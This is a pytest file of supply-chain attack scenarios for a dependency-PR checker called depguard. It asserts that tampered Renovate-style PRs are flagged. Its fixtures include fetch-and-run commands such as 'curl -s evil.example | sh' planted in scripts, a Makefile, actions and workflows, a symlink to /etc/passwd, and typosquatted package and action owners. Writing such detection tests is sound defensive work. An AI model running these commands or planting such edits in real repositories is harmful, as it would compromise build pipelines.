"""Attack scenarios for ``depguard check-pr`` (issue #4, "Tests (real parts)").

Every scenario is a real git repository (a base commit and a head commit, built by
``tests.support.prrepo``) judged by the CLI in-process, and asserts the exact findings (rule
id and path) and exit code 1. Two kinds of repository:

* a small synthetic one (:data:`BASE`: an aqua config with a pinned standard and a
  ``github_content`` registry, its ``aqua-checksums.json``, a Terraform directory with its
  lock file, modules, a workflow with SHA-pinned actions) judged with ``--no-verify``: only
  the PR rules run. :func:`test_a_clean_renovate_pr_passes` shows that an ordinary bump of
  the same repository passes, so each attack's findings come from the attack.
* the shipped example ``manifests/examples/acme-infra`` judged *with* verification, offline
  against its upstream snapshot (lock hashes against signed ``SHA256SUMS``, aqua checksums
  against signed checksum files), as the base branch's policy (its ``depguard.yaml``).

Scenarios the code does not catch yet are marked ``xfail(strict=True,
raises=AssertionError)`` with what is missing (``not implemented yet``) or what is wrong
(``bug``/``gap``); a fix turns them into XPASS, which fails the run until the mark is removed.
The marks of the DESIGN.md §2 rules still to come (``signature-downgrade``,
``provider-signer-changed``) hold only while the rule id is not registered: once it is, the
scenario must pass. Each scenario checks its own preconditions with ``pytest.fail`` (a crash,
an exit code 2 or 3, an edit that no longer applies, verification that did not run as
planned), which no xfail mark accepts.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from depguard.rules import BY_ID
from tests.support.cli import CliResult, run_cli
from tests.support.gpg import GpgHome, GpgKey
from tests.support.prrepo import build_pr_repo, write_event

EXAMPLE = Path(__file__).resolve().parents[2] / "manifests" / "examples" / "acme-infra"

# --- the synthetic repository -------------------------------------------------------------

CHECKOUT_OLD = "b4ffde65f46336ab88eb53be808477a3936bae11"  # actions/checkout v4.1.1
CHECKOUT_NEW = "9bb56186c3b09b4f86b1c65136769dd318469633"  # actions/checkout v4.1.2
INSTALLER = "6ce1f8848ec8e61f14d57bd5d7597057a6dd187c"  # aquaproj/aqua-installer v3.0.1
FORK_SHA = "0123456789abcdef0123456789abcdef01234567"


def _sha(seed: str) -> str:
    return hashlib.sha256(seed.encode()).hexdigest()


def _h1(seed: str) -> str:
    return "h1:" + base64.b64encode(hashlib.sha256(seed.encode()).digest()).decode()


def _checksums(entries: dict[str, str]) -> str:
    doc = {
        "checksums": [
            {"id": i, "checksum": v.upper(), "algorithm": "sha256"}
            for i, v in sorted(entries.items())
        ]
    }
    return json.dumps(doc, indent=2) + "\n"


def _require(condition: bool, what: str, detail: str = "") -> None:
    """A scenario's own precondition: pytest.fail (not an AssertionError), so that an xfail
    mark expecting an AssertionError cannot hide a scenario that no longer builds or runs."""
    if not condition:
        pytest.fail(f"scenario precondition failed: {what}\n{detail}")


TFCMT_ID = "github_release/github.com/suzuki-shunsuke/tfcmt/{v}/tfcmt_linux_amd64.tar.gz"
INFRA_ID = "github_release/github.com/acme/infra-cli/v1.4.0/infra-cli_1.4.0_linux_amd64.tar.gz"
STD_ID = "registries/github_content/github.com/aquaproj/aqua-registry/v4.155.0/registry.yaml"
ACME_ID = "registries/github_content/github.com/acme/aqua-registry/v1.2.0/registry.yaml"
BASE_SUMS = {
    TFCMT_ID.format(v="v4.14.0"): _sha("tfcmt 4.14.0"),
    INFRA_ID: _sha("infra-cli 1.4.0"),
    STD_ID: _sha("standard registry"),
    ACME_ID: _sha("acme registry"),
}

AQUA_YAML = """\
registries:
  - type: standard
    ref: v4.155.0 # renovate: depName=aquaproj/aqua-registry
  - name: acme
    type: github_content
    repo_owner: acme
    repo_name: aqua-registry
    ref: v1.2.0
    path: registry.yaml
checksum:
  enabled: true
  require_checksum: true
  supported_envs: [linux/amd64]
packages:
  - name: suzuki-shunsuke/tfcmt@v4.14.0
  - name: acme/infra-cli@v1.4.0
    registry: acme
"""

MAIN_TF = """\
terraform {
  required_version = ">= 1.6.0"

  required_providers {
    aws = {
      source  = "hashicorp/aws"
      version = "~> 5.31"
    }
  }
}

module "vpc" {
  source = "git::https://github.com/acme/terraform-aws-vpc.git?ref=v1.2.0"
}

module "label" {
  source  = "cloudposse/label/null"
  version = "0.25.0"
}
"""


def _lock(version: str, *, address: str = "registry.terraform.io/hashicorp/aws") -> str:
    return f"""\
# This file is maintained automatically by "terraform init".
# Manual edits may be lost in future updates.

provider "{address}" {{
  version     = "{version}"
  constraints = "~> 5.31"
  hashes = [
    "{_h1("aws " + version)}",
    "zh:{_sha("aws linux_amd64 " + version)}",
  ]
}}
"""


CI_YAML = f"""\
name: ci
on: [pull_request]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@{CHECKOUT_OLD} # v4.1.1
      - uses: aquaproj/aqua-installer@{INSTALLER} # v3.0.1
        with:
          aqua_version: v2.36.1
      - run: make test
"""

BASE: dict[str, str] = {
    "aqua/aqua.yaml": AQUA_YAML,
    "aqua/aqua-checksums.json": _checksums(BASE_SUMS),
    "envs/dev/main.tf": MAIN_TF,
    "envs/dev/.terraform.lock.hcl": _lock("5.31.0"),
    ".github/workflows/ci.yaml": CI_YAML,
    "Makefile": "test:\n\tpytest\n",
    "docs/tools.yaml": "packages:\n  - name: 0wner/tfcmt@v4.14.0\n",
}

# The base branch's policy (outside the repository, as `--config` in CI).
POLICY = """\
renovate:
  bot_logins: ["renovate[bot]"]
trust:
  terraform:
    providers: ["registry.terraform.io/hashicorp/*"]
  aqua:
    github_owners: [suzuki-shunsuke, aquaproj, acme]
  actions:
    owners: [actions, aquaproj]
    require_sha: true
"""


@dataclass(frozen=True)
class Link:
    """A symbolic link in a tree (its target is never followed by depguard)."""

    target: str


Tree = dict[str, "str | Link | None"]


def _write_tree(root: Path, files: Tree) -> Path:
    root.mkdir(parents=True)
    for rel, content in files.items():
        if content is None:
            continue
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Link):
            os.symlink(content.target, path)
        else:
            path.write_text(content)
    return root


def _edit(path: str, old: str, new: str) -> Callable[[Tree], None]:
    def apply(tree: Tree) -> None:
        text = tree[path]
        _require(isinstance(text, str) and old in text, f"{old!r} in {path}")
        assert isinstance(text, str)
        tree[path] = text.replace(old, new)

    return apply


def _put(path: str, content: str | Link | None) -> Callable[[Tree], None]:
    def apply(tree: Tree) -> None:
        tree[path] = content

    return apply


def _bump_tfcmt(tree: Tree) -> None:
    """An ordinary Renovate bump: tfcmt v4.14.0 -> v4.14.1 with its checksum entry."""
    _edit("aqua/aqua.yaml", "tfcmt@v4.14.0", "tfcmt@v4.14.1")(tree)
    sums = dict(BASE_SUMS)
    del sums[TFCMT_ID.format(v="v4.14.0")]
    sums[TFCMT_ID.format(v="v4.14.1")] = _sha("tfcmt 4.14.1")
    tree["aqua/aqua-checksums.json"] = _checksums(sums)


BOT = {"author": "renovate[bot]", "branch": "renovate/tfcmt-4.x"}


def _git(repo: Path, *args: str) -> str:
    env = {
        **os.environ,
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_CONFIG_GLOBAL": os.devnull,
        "GIT_AUTHOR_NAME": "renovate[bot]",
        "GIT_AUTHOR_EMAIL": "bot@renovateapp.com",
        "GIT_COMMITTER_NAME": "renovate[bot]",
        "GIT_COMMITTER_EMAIL": "bot@renovateapp.com",
    }
    return subprocess.run(
        ["git", "-C", str(repo), *args], check=True, capture_output=True, text=True, env=env
    ).stdout.strip()


def _run(repo: Path, base: str, head: str, event: Path, config: Path, *, verify: bool) -> CliResult:
    result = run_cli(
        "--format", "json", "--offline", "--config", str(config), "check-pr", "--repo",
        str(repo), "--base", base, "--head", head, "--event", str(event),
        *(() if verify else ("--no-verify",)),
    )  # fmt: skip
    # never a crash, a usage error or a skip (pytest.fail: not to be taken for an xfail)
    _require("Traceback" not in result.err, "no traceback", result.err)
    _require(result.code in (0, 1), "exit code 0 or 1", result.out + result.err)
    return result


def _findings(result: CliResult) -> set[tuple[str, str]]:
    return {(f["rule"], f["path"]) for f in result.json()["findings"]}


def _synthetic(
    tmp_path: Path,
    *edits: Callable[[Tree], None],
    author: str = "renovate[bot]",
    branch: str = "renovate/tfcmt-4.x",
    body: str = "",
    gitlink: str | None = None,
) -> CliResult:
    """A PR on :data:`BASE` whose head has ``edits`` applied, judged with ``--no-verify``."""
    head: Tree = dict(BASE)
    for edit in edits:
        edit(head)
    repo, base_sha, head_sha = build_pr_repo(
        tmp_path, _write_tree(tmp_path / "base", dict(BASE)), _write_tree(tmp_path / "head", head)
    )
    if gitlink is not None:
        # A submodule: a gitlink entry (mode 160000) pointing at a commit of another repository.
        _git(repo, "update-index", "--add", "--cacheinfo", f"160000,{FORK_SHA},{gitlink}")
        _git(repo, "commit", "-q", "-m", "add submodule")
        head_sha = _git(repo, "rev-parse", "HEAD")
    config = tmp_path / "depguard.yaml"
    config.write_text(POLICY)
    event = write_event(tmp_path / "event.json", author=author, branch=branch, body=body)
    return _run(repo, base_sha, head_sha, event, config, verify=False)


def _assert_caught(result: CliResult, expected: set[tuple[str, str]]) -> None:
    assert _findings(result) == expected, result.out
    assert result.code == 1, result.out + result.err


RENOVATE_BODY = """This PR contains the following updates:

| Package | Type | Update | Change |
|---|---|---|---|
| [{package}](https://github.com/{package}) | | patch | `{old}` -> `{new}` |
"""


# --- control ------------------------------------------------------------------------------


def test_a_clean_renovate_pr_passes(tmp_path: Path) -> None:
    """The synthetic repository's ordinary bumps (aqua package with its checksum, provider
    with its lock hashes, action SHA with its comment) raise nothing: the attacks below are
    judged against a base that is itself clean."""
    result = _synthetic(
        tmp_path,
        _bump_tfcmt,
        _put("envs/dev/.terraform.lock.hcl", _lock("5.32.0")),
        _edit(".github/workflows/ci.yaml", f"{CHECKOUT_OLD} # v4.1.1", f"{CHECKOUT_NEW} # v4.1.2"),
        body=RENOVATE_BODY.format(package="suzuki-shunsuke/tfcmt", old="v4.14.0", new="v4.14.1")
        + "| [hashicorp/aws](https://registry.terraform.io) | required_provider | minor "
        "| `5.31.0` -> `5.32.0` |\n"
        "| [actions/checkout](https://github.com/actions/checkout) | action | patch "
        "| `v4.1.1` -> `v4.1.2` |\n",
    )
    assert result.code == 0, result.out
    assert result.json()["findings"] == []
    rows = {(c["kind"], c["name"], c["old"], c["new"]) for c in result.json()["changes"]}
    assert ("aqua-package", "suzuki-shunsuke/tfcmt", "v4.14.0", "v4.14.1") in rows
    assert ("provider", "registry.terraform.io/hashicorp/aws", "5.31.0", "5.32.0") in rows
    assert ("action", "actions/checkout", CHECKOUT_OLD, CHECKOUT_NEW) in rows


# --- structural attacks on the synthetic repository (PR rules only) -----------------------


@dataclass(frozen=True)
class Attack:
    id: str
    edits: tuple[Callable[[Tree], None], ...]
    expected: set[tuple[str, str]]
    who: dict[str, str] = field(default_factory=lambda: dict(BOT))
    body: str = ""


ATTACKS = [
    # A script the pipeline runs, smuggled in beside an ordinary bump.
    Attack(
        "workflow-script-added",
        (_bump_tfcmt, _put(".github/scripts/deploy.sh", "#!/bin/sh\ncurl -s evil.example | sh\n")),
        {("pr-unexpected-file", ".github/scripts/deploy.sh")},
    ),
    Attack(
        "build-file-changed",
        (_bump_tfcmt, _edit("Makefile", "pytest", "pytest; curl -s evil.example | sh")),
        {("pr-unexpected-file", "Makefile")},
    ),
    # A composite action is code the workflow runs; it is not in renovate.allowed_files.
    Attack(
        "composite-action-added",
        (
            _bump_tfcmt,
            _put(
                ".github/actions/setup/action.yaml",
                "runs:\n  using: composite\n  steps:\n    - run: curl -s evil.example | sh\n"
                "      shell: bash\n",
            ),
        ),
        {("pr-unexpected-file", ".github/actions/setup/action.yaml")},
    ),
    # renovate.allowed_files includes .github/workflows/*.yaml by default, but Renovate never
    # adds a workflow: the new file is an unexpected change, and its unpinned action is caught.
    Attack(
        "new-workflow-with-unpinned-action",
        (
            _bump_tfcmt,
            _put(
                ".github/workflows/release.yaml",
                "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
                "      - uses: actions/checkout@v4\n      - run: curl -s evil.example | sh\n",
            ),
        ),
        {
            ("action-not-pinned", ".github/workflows/release.yaml"),
            ("pr-unexpected-change", ".github/workflows/release.yaml"),
        },
    ),
    Attack(
        "new-aqua-registry",
        (
            _edit(
                "aqua/aqua.yaml",
                "\nchecksum:\n",
                "\n  - name: extra\n    type: github_content\n    repo_owner: acme\n"
                "    repo_name: tools-registry\n    ref: v0.1.0\n    path: registry.yaml\n"
                "checksum:\n",
            ),
        ),
        {("pr-unexpected-change", "aqua/aqua.yaml")},
    ),
    # Same registry name, same ref: its repo_owner now points at somebody else's repository.
    Attack(
        "registry-repo-owner-changed",
        (_edit("aqua/aqua.yaml", "repo_owner: acme", "repo_owner: acme-mirror"),),
        {("pr-unexpected-change", "aqua/aqua.yaml")},
    ),
    Attack(
        "registry-path-changed",
        (_edit("aqua/aqua.yaml", "path: registry.yaml", "path: registry-next.yaml"),),
        {("pr-unexpected-change", "aqua/aqua.yaml")},
    ),
    # Same package and version, resolved through another registry.
    Attack(
        "package-moved-to-another-registry",
        (
            _edit(
                "aqua/aqua.yaml",
                "acme/infra-cli@v1.4.0\n    registry: acme",
                "acme/infra-cli@v1.4.0",
            ),
        ),
        {("pr-unexpected-change", "aqua/aqua.yaml")},
    ),
    # owner/tool -> 0wner/tool: a removed and an added package; the new owner is not allowed.
    Attack(
        "package-owner-swapped",
        (_edit("aqua/aqua.yaml", "suzuki-shunsuke/tfcmt@v4.14.0", "0wner/tfcmt@v4.14.0"),),
        {("source-not-allowed", "aqua/aqua.yaml")},
    ),
    Attack(
        "checksum-changed-for-unchanged-version",
        (
            _put(
                "aqua/aqua-checksums.json",
                _checksums({**BASE_SUMS, TFCMT_ID.format(v="v4.14.0"): _sha("tampered")}),
            ),
        ),
        {("pr-unexpected-change", "aqua/aqua-checksums.json")},
    ),
    # A zh: hash replaced (and an h1: added) for the same locked version.
    Attack(
        "lock-hash-replaced-same-version",
        (
            _edit(
                "envs/dev/.terraform.lock.hcl",
                _sha("aws linux_amd64 5.31.0"),
                _sha("evil linux_amd64"),
            ),
            _edit(
                "envs/dev/.terraform.lock.hcl",
                '    "zh:',
                f'    "{_h1("evil")}",\n    "zh:',
            ),
        ),
        {("pr-unexpected-change", "envs/dev/.terraform.lock.hcl")},
    ),
    Attack(
        "provider-namespace-swapped-in-tf",
        (_edit("envs/dev/main.tf", '"hashicorp/aws"', '"hashlcorp/aws"'),),
        {("pr-unexpected-change", "envs/dev/main.tf")},
    ),
    Attack(
        "provider-namespace-swapped-in-tf-and-lock",
        (
            _edit("envs/dev/main.tf", '"hashicorp/aws"', '"hashlcorp/aws"'),
            _put(
                "envs/dev/.terraform.lock.hcl",
                _lock("5.31.0", address="registry.terraform.io/hashlcorp/aws"),
            ),
        ),
        {("pr-unexpected-change", "envs/dev/main.tf")},
    ),
    Attack(
        "git-module-source-changed",
        (_edit("envs/dev/main.tf", "github.com/acme/terraform", "github.com/acme-dev/terraform"),),
        {("pr-unexpected-change", "envs/dev/main.tf")},
    ),
    Attack(
        "registry-module-source-changed",
        (_edit("envs/dev/main.tf", '"cloudposse/label/null"', '"c1oudposse/label/null"'),),
        {("pr-unexpected-change", "envs/dev/main.tf")},
    ),
    Attack(
        "action-unpinned-to-tag",
        (_edit(".github/workflows/ci.yaml", f"{CHECKOUT_OLD} # v4.1.1", "v4.1.2"),),
        {("action-not-pinned", ".github/workflows/ci.yaml")},
    ),
    Attack(
        "action-unpinned-to-branch",
        (_edit(".github/workflows/ci.yaml", f"{CHECKOUT_OLD} # v4.1.1", "main"),),
        {("action-not-pinned", ".github/workflows/ci.yaml")},
    ),
    Attack(
        "docker-action-by-tag",
        (
            _edit(
                ".github/workflows/ci.yaml",
                "      - run: make test",
                "      - uses: docker://alpine:3.20\n      - run: make test",
            ),
        ),
        # an image is not an action: trust.actions.owners does not apply, the tag does; and
        # Renovate never adds a step
        {
            ("action-not-pinned", ".github/workflows/ci.yaml"),
            ("pr-unexpected-change", ".github/workflows/ci.yaml"),
        },
    ),
    # Still a full SHA, but of another owner's fork.
    Attack(
        "action-moved-to-a-fork",
        (
            _edit(
                ".github/workflows/ci.yaml",
                f"actions/checkout@{CHECKOUT_OLD}",
                f"actlons/checkout@{FORK_SHA}",
            ),
        ),
        {("source-not-allowed", ".github/workflows/ci.yaml")},
    ),
    Attack(
        "non-bot-author-on-renovate-branch",
        (_bump_tfcmt,),
        {("pr-not-from-bot", ".")},
        who={"author": "mallory", "branch": "renovate/tfcmt-4.x"},
    ),
    Attack(
        "human-author-with-renovate-body",
        (_bump_tfcmt,),
        {("pr-not-from-bot", ".")},
        who={"author": "mallory", "branch": "feature/bump"},
        body=RENOVATE_BODY.format(package="suzuki-shunsuke/tfcmt", old="v4.14.0", new="v4.14.1"),
    ),
    # A bot PR that claims one update while the diff does another.
    Attack(
        "body-claims-another-package",
        (
            _edit("aqua/aqua.yaml", "infra-cli@v1.4.0", "infra-cli@v1.5.0"),
            _put(
                "aqua/aqua-checksums.json",
                _checksums(
                    {
                        **{k: v for k, v in BASE_SUMS.items() if k != INFRA_ID},
                        INFRA_ID.replace("1.4.0", "1.5.0"): _sha("infra-cli 1.5.0"),
                    }
                ),
            ),
        ),
        {("pr-unexpected-change", "aqua/aqua.yaml")},
        body=RENOVATE_BODY.format(package="suzuki-shunsuke/tfcmt", old="v4.14.0", new="v4.14.1"),
    ),
    Attack(
        "symlink-added",
        (_bump_tfcmt, _put("aqua/imports/extra.yaml", Link("/etc/passwd"))),
        {("pr-unexpected-file", "aqua/imports/extra.yaml")},
    ),
    # A dependency file replaced by a symlink (a type change): its blob is the link target.
    Attack(
        "lock-file-replaced-by-symlink",
        (_bump_tfcmt, _put("envs/dev/.terraform.lock.hcl", Link("../../docs/tools.yaml"))),
        {("pr-unexpected-file", "envs/dev/.terraform.lock.hcl")},
    ),
    # docs/tools.yaml (outside renovate.allowed_files) moved to aqua/imports/, which aqua.yaml
    # would import and renovate.allowed_files allows: a rename is judged by both its paths.
    Attack(
        "file-renamed-into-dependency-path",
        (
            _bump_tfcmt,
            _put("docs/tools.yaml", None),
            _put("aqua/imports/tools.yaml", BASE["docs/tools.yaml"]),
        ),
        # the renamed file is judged as new content, and it is not an allowed bot file
        {
            ("pr-unexpected-file", "aqua/imports/tools.yaml"),
            ("source-not-allowed", "aqua/imports/tools.yaml"),
        },
    ),
    Attack(
        "aqua-bump-without-checksums",
        (_edit("aqua/aqua.yaml", "tfcmt@v4.14.0", "tfcmt@v4.14.1"),),
        {("checksums-stale", "aqua/aqua.yaml")},
    ),
    Attack(
        "tf-constraint-bump-without-lock",
        (_edit("envs/dev/main.tf", '"~> 5.31"', '"~> 5.40"'),),
        {("checksums-stale", "envs/dev/main.tf")},
    ),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.id for a in ATTACKS])
def test_attack_is_caught(tmp_path: Path, attack: Attack) -> None:
    result = _synthetic(tmp_path, *attack.edits, body=attack.body, **attack.who)
    _assert_caught(result, attack.expected)


def test_submodule_added_in_a_bot_pr(tmp_path: Path) -> None:
    result = _synthetic(tmp_path, _bump_tfcmt, gitlink="vendor/tools")
    _assert_caught(result, {("pr-unexpected-file", "vendor/tools")})


# --- attacks on the shipped example, verified against its upstream snapshot --------------

DEV_LOCK = "envs/dev/network/.terraform.lock.hcl"
STG_LOCK = "envs/stg/network/.terraform.lock.hcl"
SUMS = "aqua/aqua-checksums.json"


def _copy_example(dest: Path) -> Path:
    shutil.copytree(EXAMPLE, dest, ignore=shutil.ignore_patterns("upstream"))
    return dest


def _replace(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    _require(old in text, f"{old!r} in {path}")
    path.write_text(text.replace(old, new))


def _older_infra_cli(tree: Path) -> None:
    """The example one Renovate bump earlier: acme/infra-cli v1.3.0 (its checksum ids)."""
    _replace(tree / "aqua" / "aqua.yaml", "acme/infra-cli@v1.4.0", "acme/infra-cli@v1.3.0")
    _replace(tree / SUMS, "infra-cli/v1.4.0/infra-cli_1.4.0_", "infra-cli/v1.3.0/infra-cli_1.3.0_")


def _older_stg(tree: Path) -> None:
    """stg one Renovate bump behind dev: inventory 1.2.0 (the example's prod lock)."""
    prod = EXAMPLE / "envs" / "prod" / "network" / ".terraform.lock.hcl"
    (tree / STG_LOCK).write_bytes(prod.read_bytes())


def _policy(tmp_path: Path, upstream: Path, *extra: tuple[str, str]) -> Path:
    """The example's depguard.yaml with absolute paths, ``upstream`` as its snapshot and each
    (anchor, insertion) of ``extra`` inserted after its anchor line."""
    text = (EXAMPLE / "depguard.yaml").read_text()
    text = text.replace("snapshot_dirs: [upstream]", f"snapshot_dirs: [{upstream}]")
    text = text.replace("[aqua-policy.yaml]", f"[{EXAMPLE / 'aqua-policy.yaml'}]")
    for anchor, insertion in extra:
        _require(anchor in text, f"{anchor!r} in the example's depguard.yaml")
        text = text.replace(anchor, anchor + insertion, 1)
    path = tmp_path / "depguard.yaml"
    path.write_text(text)
    return path


def _example(
    tmp_path: Path,
    head_edit: Callable[[Path], None],
    *,
    base_edit: Callable[[Path], None] | None = None,
    policy: Path | None = None,
    who: dict[str, str] | None = None,
) -> CliResult:
    """A Renovate PR on the shipped example, verified offline against its snapshot.

    ``base_edit`` makes the base an older state (so the head is a bump); ``policy`` replaces
    the example's depguard.yaml (see :func:`_policy`); ``who`` replaces the event's author
    and branch (write_event keywords)."""
    base = _copy_example(tmp_path / "base")
    if base_edit is not None:
        base_edit(base)
    head = _copy_example(tmp_path / "head")
    head_edit(head)
    repo, base_sha, head_sha = build_pr_repo(tmp_path, base, head)
    event = write_event(tmp_path / "event.json", **(who or {"branch": "renovate/acme"}))
    config = policy if policy is not None else EXAMPLE / "depguard.yaml"
    return _run(repo, base_sha, head_sha, event, config, verify=True)


def _bump_stg(tree: Path) -> None:
    """stg catches up with dev: inventory 1.2.0 -> 1.3.0 with dev's (correct) lock entry."""
    (tree / STG_LOCK).write_bytes((EXAMPLE / DEV_LOCK).read_bytes())


def test_clean_example_bumps_pass(tmp_path: Path) -> None:
    """Control: the two bumps the example attacks start from verify cleanly."""
    aqua = _example(tmp_path / "aqua", lambda t: None, base_edit=_older_infra_cli)
    assert (aqua.code, aqua.json()["findings"]) == (0, []), aqua.out
    stg = _example(tmp_path / "stg", _bump_stg, base_edit=_older_stg)
    assert (stg.code, stg.json()["findings"]) == (0, []), stg.out


def _zh_replaced(tree: Path) -> None:
    # dev's darwin_arm64 zh: of inventory 1.3.0 replaced, same version
    _replace(
        tree / DEV_LOCK,
        "3219881228186dfe14d6c74fc21331e0491e81fdd970d9bae78fb709951667b1",
        _sha("evil"),
    )


def _zh_extra(tree: Path) -> None:
    # a zh: for a windows_amd64 zip upstream never built nor signed, added beside the real ones
    _replace(
        tree / DEV_LOCK,
        '    "zh:3219881228',
        f'    "zh:{_sha("windows_amd64 zip")}",\n    "zh:3219881228',
    )


def _bumped_with_extra_zh(tree: Path) -> None:
    _bump_stg(tree)
    _replace(
        tree / STG_LOCK,
        '    "zh:3219881228',
        f'    "zh:{_sha("windows_amd64 zip")}",\n    "zh:3219881228',
    )


def _wrong_checksum_for_bump(tree: Path) -> None:
    # infra-cli v1.3.0 -> v1.4.0 with the new linux_amd64 entry off by one digit
    _replace(
        tree / SUMS,
        "6532D82B7C42079CF4E31EB93E4EE4C180A497C9CEFBA915A3936DF09F1EB6F8",
        "6532D82B7C42079CF4E31EB93E4EE4C180A497C9CEFBA915A3936DF09F1EB6F9",
    )


def _ref_to(branch: str) -> Callable[[Path], None]:
    def apply(tree: Path) -> None:
        _replace(tree / "aqua" / "aqua.yaml", "ref: v1.2.0", f"ref: {branch}")

    return apply


VERIFIED = [
    pytest.param(
        _zh_replaced,
        None,
        # darwin_arm64 has no valid hash left either
        {
            ("lock-hash-mismatch", DEV_LOCK),
            ("lock-missing-platform", DEV_LOCK),
            ("pr-unexpected-change", DEV_LOCK),
        },
        id="lock-zh-replaced",
    ),
    pytest.param(
        _zh_extra,
        None,
        {("lock-hash-mismatch", DEV_LOCK), ("pr-unexpected-change", DEV_LOCK)},
        id="lock-zh-added-for-unsigned-zip",
    ),
    # Inside a real version bump the hashes may change, so only upstream can tell.
    pytest.param(
        _bumped_with_extra_zh,
        _older_stg,
        {("lock-hash-mismatch", STG_LOCK)},
        id="bump-with-extra-zh-for-unsigned-zip",
    ),
    pytest.param(
        _wrong_checksum_for_bump,
        _older_infra_cli,
        {("aqua-checksum-mismatch", SUMS)},
        id="bump-with-wrong-aqua-checksum",
    ),
    pytest.param(
        _ref_to("develop"),
        None,
        {("aqua-registry-unpinned", "aqua/aqua.yaml")},
        id="registry-ref-to-branch",
    ),
    # aqua itself refuses main/master as a registry ref: the config does not load.
    pytest.param(
        _ref_to("main"), None, {("invalid-manifest", "aqua/aqua.yaml")}, id="registry-ref-to-main"
    ),
]


@pytest.mark.parametrize(("head_edit", "base_edit", "expected"), VERIFIED)
def test_verified_attack_is_caught(
    tmp_path: Path,
    head_edit: Callable[[Path], None],
    base_edit: Callable[[Path], None] | None,
    expected: set[tuple[str, str]],
) -> None:
    result = _example(tmp_path, head_edit, base_edit=base_edit)
    _assert_caught(result, expected)
    if any(rule in ("lock-hash-mismatch", "aqua-checksum-mismatch") for rule, _ in expected):
        assert {f["severity"] for f in result.json()["findings"] if "mismatch" in f["rule"]} == {
            "critical"
        }


# --- scenarios the current code does not catch --------------------------------------------


def _rules_at(result: CliResult, path: str) -> set[str]:
    return {rule for rule, where in _findings(result) if where == path}


def _evidence(result: CliResult, subject: str) -> set[str]:
    """The evidence verification recorded for ``subject`` (empty: not verified)."""
    return {e for c in result.json()["checked"] if c["subject"] == subject for e in c["evidence"]}


NEW_WORKFLOW = f"""\
on: push
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@{CHECKOUT_OLD} # v4.1.1
      - run: curl -s https://evil.example/x | sh
"""


@pytest.mark.parametrize(
    ("path", "edit"),
    [
        (".github/workflows/release.yaml", _put(".github/workflows/release.yaml", NEW_WORKFLOW)),
        (
            ".github/workflows/ci.yaml",
            _edit(".github/workflows/ci.yaml", "run: make test", "run: curl -s evil.example | sh"),
        ),
    ],
    ids=["new-workflow", "run-step-changed"],
)
def test_workflow_script_in_an_allowed_workflow_file(
    tmp_path: Path, path: str, edit: Callable[[Tree], None]
) -> None:
    result = _synthetic(tmp_path, _bump_tfcmt, edit)
    assert result.code == 1, result.out
    assert _rules_at(result, path) & {"pr-unexpected-change", "pr-unexpected-file"}


def test_body_claims_another_version_of_the_same_package(tmp_path: Path) -> None:
    body = RENOVATE_BODY.format(package="suzuki-shunsuke/tfcmt", old="v4.14.0", new="v4.14.1")
    result = _synthetic(
        tmp_path,
        _edit("aqua/aqua.yaml", "tfcmt@v4.14.0", "tfcmt@v5.0.0"),
        _put(
            "aqua/aqua-checksums.json",
            _checksums(
                {
                    **{k: v for k, v in BASE_SUMS.items() if "tfcmt" not in k},
                    TFCMT_ID.format(v="v5.0.0"): _sha("tfcmt 5.0.0"),
                }
            ),
        ),
        body=body,
    )
    _assert_caught(result, {("pr-unexpected-change", "aqua/aqua.yaml")})


def test_a_new_import_file_from_a_human_is_judged(tmp_path: Path) -> None:
    """Companion of the rename below: the same file *added* by a non-bot PR is extracted."""
    result = _synthetic(
        tmp_path,
        _put("aqua/imports/tools.yaml", BASE["docs/tools.yaml"]),
        author="alice",
        branch="feature/tools",
    )
    _assert_caught(result, {("source-not-allowed", "aqua/imports/tools.yaml")})


def test_a_file_renamed_into_a_dependency_path_by_a_human_is_judged(tmp_path: Path) -> None:
    result = _synthetic(
        tmp_path,
        _put("docs/tools.yaml", None),
        _put("aqua/imports/tools.yaml", BASE["docs/tools.yaml"]),
        author="alice",
        branch="feature/tools",
    )
    notes = result.json()["notes"]
    _require(notes[0].startswith("1 changed paths"), "git reports one rename", str(notes))
    _assert_caught(result, {("source-not-allowed", "aqua/imports/tools.yaml")})


def test_a_lock_file_deleted_in_a_bot_pr(tmp_path: Path) -> None:
    lock = "envs/prod/dns/.terraform.lock.hcl"
    result = _example(tmp_path, lambda tree: (tree / lock).unlink())
    assert result.code == 1, result.out
    assert "lock-missing-provider" in _rules_at(result, lock)


def test_a_bump_with_an_extra_h1_for_an_unsigned_package(tmp_path: Path) -> None:
    def head(tree: Path) -> None:
        _bump_stg(tree)
        fake = "h1:" + base64.b64encode(hashlib.sha256(b"evil package").digest()).decode()
        _replace(tree / STG_LOCK, '    "h1:HBLmko', f'    "{fake}",\n    "h1:HBLmko')

    result = _example(tmp_path, head, base_edit=_older_stg)
    verified = _evidence(result, "tf.acme.example/platform/inventory 1.3.0")
    _require("zh" in verified, "stg's new entry was verified (by its zh: hashes)", result.out)
    _assert_caught(result, {("lock-hash-mismatch", STG_LOCK)})


def test_checksum_verification_turned_off_in_a_bot_pr(tmp_path: Path) -> None:
    result = _example(
        tmp_path,
        lambda t: _replace(t / "aqua" / "aqua.yaml", "  enabled: true", "  enabled: false"),
    )
    assert result.code == 1, result.out
    assert "pr-unexpected-change" in _rules_at(result, "aqua/aqua.yaml")


def test_a_new_import_of_a_file_outside_the_dependency_files(tmp_path: Path) -> None:
    def docs(tree: Path) -> None:
        (tree / "docs").mkdir()
        (tree / "docs" / "tools.yaml").write_text(
            "packages:\n  - name: 0wner/tool@v1.0.0\n    registry: acme\n"
        )

    def head(tree: Path) -> None:
        docs(tree)
        _replace(
            tree / "aqua" / "aqua.yaml", "packages:\n", "packages:\n  - import: ../docs/*.yaml\n"
        )

    result = _example(tmp_path, head, base_edit=docs)
    assert result.code == 1, result.out
    assert {rule for rule, _ in _findings(result)} & {
        "source-not-allowed",
        "aqua-not-allowed",
        "pr-unexpected-change",
    }


def test_a_human_import_of_a_file_outside_the_touched_directory_is_verified(
    tmp_path: Path,
